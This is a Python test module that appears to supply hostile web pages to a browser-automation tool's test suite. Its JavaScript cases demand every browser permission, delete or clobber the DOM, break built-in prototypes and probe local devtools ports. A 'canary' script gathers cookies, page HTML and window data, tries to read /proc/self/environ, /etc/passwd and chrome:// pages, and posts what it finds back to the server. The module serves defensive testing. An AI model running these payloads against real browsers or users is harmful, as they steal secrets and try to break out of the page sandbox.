"""Pages that ask for what is not theirs, and pages that break what we run inside them."""

from __future__ import annotations

from tests.support.hostile.case import Case, page, script
from tests.support.hostile.far_side import Page

_PERMISSIONS = """
const usb = {filters: []}, key = {publicKey: {challenge: new Uint8Array(9)}};
const price = {total: {label: 'x', amount: {currency: 'USD', value: '1'}}};
for (const ask of [
  () => navigator.geolocation.getCurrentPosition(() => 0), () => Notification.requestPermission(),
  () => navigator.mediaDevices.getUserMedia({audio: true, video: true}),
  () => navigator.mediaDevices.getDisplayMedia(), () => navigator.usb.requestDevice(usb),
  () => navigator.bluetooth.requestDevice({acceptAllDevices: true}), () => navigator.serial.requestPort(),
  () => navigator.clipboard.readText(), () => navigator.wakeLock.request(), () => showOpenFilePicker(),
  () => navigator.credentials.get(key), () => document.body.requestFullscreen(),
  () => document.body.requestPointerLock(), () => navigator.requestMIDIAccess(),
  () => new PaymentRequest([{supportedMethods: 'https://pay.test'}], price).show(),
  () => navigator.share({url: '/'}), () => navigator.storage.persist(),
  () => navigator.registerProtocolHandler('web+x', '/%s'), () => Notification.requestPermission(),
]) try { ask()?.catch?.(() => 0) } catch {}
"""
_SERVICE = "navigator.serviceWorker.register('/sw.js'); setTimeout(() => fetch('/x'), 300)"
_SERVICE_WORKER = "onfetch = (event) => event.respondWith(fetch('http://127.0.0.1:9001/sw'))"
_NO_ROOT = """
setTimeout(() => document.documentElement.remove(), 300);
setInterval(() => { document.adoptedStyleSheets = [] }, 50);
"""
_NO_BODY = """
document.body.remove();
const remove = () => document.body?.remove();
new MutationObserver(remove).observe(document, {childList: true, subtree: true});
"""
_NO_STRANGERS = """
const known = new Set(document.querySelectorAll('*'));
const tidy = () => { for (const e of document.querySelectorAll('*')) if (!known.has(e)) e.remove() };
new MutationObserver(tidy).observe(document, {childList: true, subtree: true});
"""
_CLOBBERED = "".join(
    f"<img name={name}><form name={name}></form>"
    for name in (
        *("readyState", "fonts", "body", "title", "documentElement", "scrollingElement", "querySelector"),
        *("querySelectorAll", "getAnimations", "adoptedStyleSheets", "createElement", "defaultView"),
        *("addEventListener", "head", "URL", "location", "elementFromPoint", "activeElement", "images"),
    )
)
_CLOBBERED_FORM = (
    "<form style='overflow:auto;height:100vh;width:100vw;display:block'>"
    + "".join(
        f"<input name={name}>"
        for name in ("scrollTop", "scrollHeight", "clientHeight", "clientWidth", "scrollTo", "isConnected")
    )
    + "<div style='height:9999px'></div></form>"
)
_OWN_WORLD = """
const broken = () => { throw 1 };
for (const name of ['Date', 'Promise', 'requestAnimationFrame', 'JSON', 'Map', 'Set', 'Proxy', 'Symbol',
  'getComputedStyle', 'CSSStyleSheet', 'Number', 'Math', 'eval', 'MutationObserver'])
  try { globalThis[name] = broken } catch {}
for (const kind of [Array, Object, Function, Element, Document, Node, String])
  for (const name of Object.getOwnPropertyNames(kind.prototype))
    if (name !== 'constructor')
      try { Object.defineProperty(kind.prototype, name, {get: broken, set: broken}) } catch {}
"""
_SERIALIZED = """
Object.prototype.toJSON = () => { throw 1 };
String.prototype.toJSON = () => 'x';
setInterval(() => { for (let n = 0; n < 10000; n++) cancelAnimationFrame(n) }, 10);
"""
_DEVTOOLS = """
for (const port of [9222, 9229, 8123, 9001]) {
  fetch(`http://127.0.0.1:${port}/json`).catch(() => 0);
  try { new WebSocket(`ws://127.0.0.1:${port}/devtools/browser`) } catch {}
}
"""
_DIALOG = "<dialog id=d>x</dialog><script>d.showModal(); d.requestFullscreen?.().catch(() => 0)</script>"
_CANARY = """
const tell = (text) => fetch('/told', {method: 'POST', body: text}).catch(() => 0);
const seen = [];
for (const name in navigator) try { seen.push(name + '=' + navigator[name]) } catch {}
for (const name of Object.getOwnPropertyNames(window))
  try { seen.push(name + '=' + JSON.stringify(window[name])) } catch {}
seen.push(document.documentElement.outerHTML, document.cookie, JSON.stringify(performance.getEntries()));
for (const file of ['file:///proc/self/environ', 'file:///proc/self/cmdline', 'file:///proc/1/environ',
  'file:///etc/passwd', 'chrome://version', 'chrome://system', 'view-source:file:///proc/self/environ']) {
  fetch(file).then((answer) => answer.text()).then(tell).catch(() => 0);
  try {
    const request = new XMLHttpRequest; request.open('GET', file, false); request.send();
    seen.push(request.responseText);
  } catch {}
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.onload = () => { try { tell(frame.contentDocument.documentElement.outerHTML) } catch {} };
  frame.src = file;
}
tell(seen.join('\\n'));
"""
_SCRIPT = (("Content-Type", "text/javascript"),)

CASES = [
    Case("permissions", script(_PERMISSIONS), secure=True),
    Case(
        "service-worker",
        {**script(_SERVICE), "/sw.js": Page(_SERVICE_WORKER, headers=_SCRIPT)},
        secure=True,
        most_requests=2,
    ),
    Case("no-root", script(_NO_ROOT), "filmed|is blank", frames=20),
    Case("no-body", script(_NO_BODY), "filmed|is blank"),
    Case("no-strangers", script(_NO_STRANGERS), frames=20),
    Case("clobbered", page(_CLOBBERED + _CLOBBERED_FORM), "filmed|is blank"),
    Case("own-world", script(_OWN_WORLD)),
    Case("serialized", script(_SERIALIZED)),
    Case("devtools", script(_DEVTOOLS)),
    Case("modal", page(_DIALOG)),
    Case("canary", script(_CANARY), frames=20, secure=True),
]
